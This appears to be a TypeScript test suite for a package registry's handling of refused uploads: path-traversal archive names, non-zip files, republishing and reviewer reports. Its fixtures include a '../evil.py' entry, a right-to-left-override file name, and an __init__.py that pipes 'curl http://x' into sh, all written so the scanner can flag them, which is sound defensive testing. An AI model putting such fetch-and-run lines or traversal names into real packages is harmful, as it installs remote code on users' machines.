import { readdir } from 'node:fs/promises';
import { packageFiles, packageOf, Publishing, type Team } from '../../support/publishing.js';
import { type Caller, type Reply, TestApp } from '../../support/test-app.js';
import { zipBytes } from '../../support/zip-bytes.js';

const climbing = zipBytes([...packageFiles('Evil'), { name: '../evil.py', content: 'x' }]);
const junk = Buffer.from('PK not a zip');

describe('a version whose archive was refused', () => {
  let app: TestApp;
  let publishing: Publishing;
  let team: Team;
  let admin: Caller;

  beforeAll(async () => {
    app = await TestApp.start();
    publishing = new Publishing(app);
    team = await publishing.team();
    admin = await app.caller({ isAdmin: true });
  });
  afterAll(() => app.stop());

  const moderate = (nodeId: string, name: string): Promise<Reply> =>
    app.api.as(admin).put(`/admin/nodes/${nodeId}/versions/1.0.0`, {
      status: `NodeVersionStatus${name}`,
      status_reason: 'Decided.',
    });
  const seen = async (nodeId: string): Promise<Reply['body']> =>
    (await app.api.as(team.owner).get(`/nodes/${nodeId}/versions/1.0.0`)).body;
  const queue = async (): Promise<string[]> =>
    (await app.api.as(admin).get('/admin/reviews?limit=100')).body.reviews.map(
      ({ node_id: id }: { node_id: string }) => id,
    );

  it('cannot be approved, whatever other status it got before', async () => {
    const version = await publishing.publish(team, 'refused', '1.0.0', climbing);
    expect(version).toMatchObject({
      status: 'NodeVersionStatusFlagged',
      archive_refusal: 'unsafe_name',
      status_reason: expect.stringMatching(/^unsafe_name: /),
    });
    for (const status of ['Active', 'Banned', 'Active', 'Flagged', 'Active', 'Deleted', 'Active']) {
      const reply = await moderate('refused', status);
      if (status !== 'Active') expect(reply.status).toBe(200);
      else {
        expect(reply).toMatchObject({ status: 409, body: { error: 'status_not_allowed' } });
        expect(reply.body.message).toContain('unsafe_name');
      }
      expect((await app.api.get('/nodes/refused/install?version=1.0.0')).status).not.toBe(200);
    }
  });

  it('waits for no reviewer, where a version that an admin flagged does', async () => {
    await publishing.publish(team, 'unqueued', '1.0.0', climbing);
    await publishing.publish(team, 'queued', '1.0.0');
    await moderate('queued', 'Flagged');
    expect(await queue()).toEqual(expect.arrayContaining(['queued']));
    expect(await queue()).not.toContain('unqueued');
    expect((await moderate('queued', 'Active')).body).toMatchObject({
      status: 'NodeVersionStatusActive',
      archive_refusal: null,
    });
  });

  it('leaves its number free for a mended archive', async () => {
    const first = await publishing.publish(team, 'mended', '1.0.0', climbing, { changelog: 'First.' });
    const mended = await publishing.publish(team, 'mended', '1.0.0', packageOf('Good'), {
      changelog: 'Mended.',
    });
    expect(mended).toMatchObject({
      status: 'NodeVersionStatusActive',
      archive_refusal: null,
      changelog: 'Mended.',
    });
    expect(mended.id).not.toBe(first.id);
    expect((await app.api.get('/nodes/mended/install')).body.id).toBe(mended.id);
    const { body } = await app.api.as(team.owner).get(`/publishers/${team.id}/versions?node_id=mended`);
    expect(body.versions).toHaveLength(1);
    expect(await publishing.announce(team, 'mended', '1.0.0')).toMatchObject({
      status: 409,
      body: { error: 'version_taken' },
    });
    const files = await readdir(app.dataDir, { recursive: true });
    expect(files.filter((file) => file.endsWith('.zip') && file.includes(first.id as string))).toEqual([]);
  });

  it('leaves its number free after its publisher has deleted it, and not when an admin has banned it', async () => {
    await publishing.publish(team, 'deleted', '1.0.0', climbing);
    const target = `/publishers/${team.id}/nodes/deleted/versions/1.0.0`;
    expect((await app.api.as(team.owner).delete(target)).status).toBe(204);
    expect((await publishing.publish(team, 'deleted', '1.0.0')).status).toBe('NodeVersionStatusActive');
    await publishing.publish(team, 'banned', '1.0.0', climbing);
    await moderate('banned', 'Banned');
    expect((await publishing.announce(team, 'banned', '1.0.0')).status).toBe(409);
  });

  it('gives its number to one of two who publish it again at once', async () => {
    await publishing.publish(team, 'contested', '1.0.0', climbing);
    const replies = await Promise.all(
      ['a', 'b', 'c', 'd'].map((changelog) => publishing.announce(team, 'contested', '1.0.0', { changelog })),
    );
    expect(replies.map(({ status }) => status).sort()).toEqual([201, 409, 409, 409]);
  });

  it('is refused at its upload when the file is no zip at all, and says so in its report', async () => {
    const announced = await publishing.announce(team, 'no-zip', '1.0.0');
    const link = announced.body.signedUrl as string;
    const refused = await publishing.upload(link, junk);
    expect(refused).toMatchObject({ status: 422, body: { error: 'archive_not_zip' } });
    expect(await seen('no-zip')).toMatchObject({
      status: 'NodeVersionStatusFlagged',
      archive_refusal: 'not_a_zip',
      status_reason: expect.stringMatching(/^not_a_zip: /),
      sha256: '',
    });
    const report = await app.api.as(team.owner).get('/nodes/no-zip/versions/1.0.0/report');
    expect(report.body.findings).toMatchObject([{ severity: 'refused', code: 'not_a_zip' }]);
    expect((await moderate('no-zip', 'Active')).status).toBe(409);
    const late = await publishing.upload(link, packageOf('Good'));
    expect(late).toMatchObject({ status: 409, body: { error: 'status_not_allowed' } });
    expect(late.body.message).toContain('Publish the version again');
    expect((await publishing.publish(team, 'no-zip', '1.0.0')).status).toBe('NodeVersionStatusActive');
  });

  it('does not lose an archive that has arrived to a later file that is no zip', async () => {
    const { body } = await publishing.announce(team, 'arrived', '1.0.0');
    const link = body.signedUrl as string;
    expect((await publishing.upload(link, packageOf('Good'))).status).toBe(200);
    expect((await publishing.upload(link, junk)).status).toBe(409);
    expect((await publishing.verdict(team, 'arrived', '1.0.0')).status).toBe('NodeVersionStatusActive');
  });

  it('shows the reviewer what else is in it', async () => {
    const archive = zipBytes([
      { name: 'pack/__init__.py', content: 'import os\nos.system("curl http://x | sh")\n' },
      { name: 'pack/\u202egpj.py', content: 'exec("1")' },
    ]);
    await publishing.publish(team, 'decoy', '1.0.0', archive);
    const { body } = await app.api.as(admin).get('/nodes/decoy/versions/1.0.0/report');
    expect(body.findings).toMatchObject([
      { severity: 'refused', code: 'unsafe_name' },
      { code: 'starts_programs', path: 'pack/__init__.py', lines: [2] },
      { code: 'runs_text', path: 'pack/\\u{202e}gpj.py', lines: [1] },
    ]);
  });
});
